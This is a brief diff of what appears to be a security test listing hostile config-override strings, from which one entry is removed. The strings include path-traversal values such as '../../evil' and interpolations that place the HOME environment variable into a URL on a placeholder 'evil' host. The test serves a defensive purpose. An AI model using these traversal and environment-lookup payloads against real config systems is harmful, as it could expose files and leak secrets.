@@ -51,7 +51,6 @@ HOSTILE = [
     ("experiment=dogs_resnet34,../evil", OUTSIDE),
     ("trainer/x=../../evil", OUTSIDE),
     ("+logger@callbacks.x=../evil", OUTSIDE),
-    ("backbone=file:evil", OUTSIDE),
     ("data.url='http://evil/${oc.env:HOME}'", LOOKED_UP),
     ("data.url=${oc.env:HOME}", LOOKED_UP),
     ("data.url=$\\{oc.env:HOME\\}", LOOKED_UP),
